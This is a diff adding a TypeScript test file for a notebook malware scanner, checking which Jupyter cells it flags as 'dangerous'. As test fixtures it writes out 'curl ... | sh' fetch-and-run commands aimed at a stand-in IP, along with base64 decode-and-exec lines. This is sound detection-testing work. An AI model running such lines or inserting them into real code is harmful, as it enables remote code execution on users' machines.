@@ -1,0 +1,71 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { notebookProgram } from "../../parsers/python/notebook.ts";
+import { loadRules } from "../../rules/rules.ts";
+import { scanSource } from "../../scan/scan_source.ts";
+import { bytesSource } from "../../sources/memory.ts";
+import { buildZip } from "../testing/zip.ts";
+
+const rules = loadRules();
+
+function notebook(cells: readonly (string | readonly string[])[], language = "python"): string {
+  return JSON.stringify({
+    ...{ nbformat: 4, nbformat_minor: 5, metadata: { language_info: { name: language } } },
+    cells: [
+      { cell_type: "markdown", metadata: {}, source: ["exec(__import__('base64').b64decode(x))"] },
+      ...cells.map((source) => ({ cell_type: "code", metadata: {}, outputs: [], source })),
+    ],
+  });
+}
+
+function programOf(text: string): unknown {
+  return notebookProgram(new TextEncoder().encode(text));
+}
+
+async function verdict(text: string): Promise<string> {
+  const archive = buildZip([{ name: "notes/a.ipynb", data: text }]);
+  return (await scanSource(bytesSource("a.zip", archive), { rules })).verdict;
+}
+
+test("cells are one program, with IPython's commands as calls", () => {
+  // `IPython.core.inputtransformer2.TransformerManager().transform_cell` makes the same calls,
+  // through `get_ipython().system` and `getoutput`.
+  assert.equal(
+    programOf(
+      notebook([["import os\n", "x = !ls\n", "%matplotlib inline\n", "os?"], "%%time\ny = 1"]),
+    ),
+    'import os\n__import__("os").system("ls")\npass\npass\ny = 1',
+  );
+  assert.equal(
+    programOf(notebook(["%%bash\necho a\necho b"])),
+    '__import__("os").system("echo a\\necho b")',
+  );
+  assert.equal(programOf(notebook(["x <- 1"], "R")), undefined);
+});
+
+test("cells that run what they decode or fetch are dangerous, commands alone are not", async () => {
+  const code = "aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyBoaScpCg==";
+  const decoded = ["import base64\n", `exec(base64.b64decode('${code}'))`];
+  assert.equal(await verdict(notebook([decoded])), "dangerous");
+  assert.equal(await verdict(notebook(["!curl -s http://192.0.2.1/a | sh"])), "dangerous");
+  assert.equal(await verdict(notebook(["%%bash\ncurl -s http://192.0.2.1/a | bash"])), "dangerous");
+  for (
+    const cell of ["!pip install torch", "!ls", "import os\nos.system('echo hi')", "x = (", ""]
+  ) {
+    assert.notEqual(await verdict(notebook([cell])), "dangerous", cell);
+    assert.notEqual(await verdict(notebook([cell])), "suspicious", cell);
+  }
+});
+
+test("what one cell defines another uses", async () => {
+  const cells = ["import base64 as b\nrun = exec", "run(b.b64decode('ZWNobyhoaSk='))"];
+  assert.equal(await verdict(notebook(cells)), "dangerous");
+});
+
+test("a notebook that is cut off is not clean", async () => {
+  const text = notebook(["x = 1"]);
+  assert.equal(await verdict(text), await verdict(notebook(["y = 2"])));
+  for (const end of [1, text.length >> 1, text.length - 1]) {
+    assert.equal(await verdict(text.slice(0, end)), "incomplete", String(end));
+  }
+});
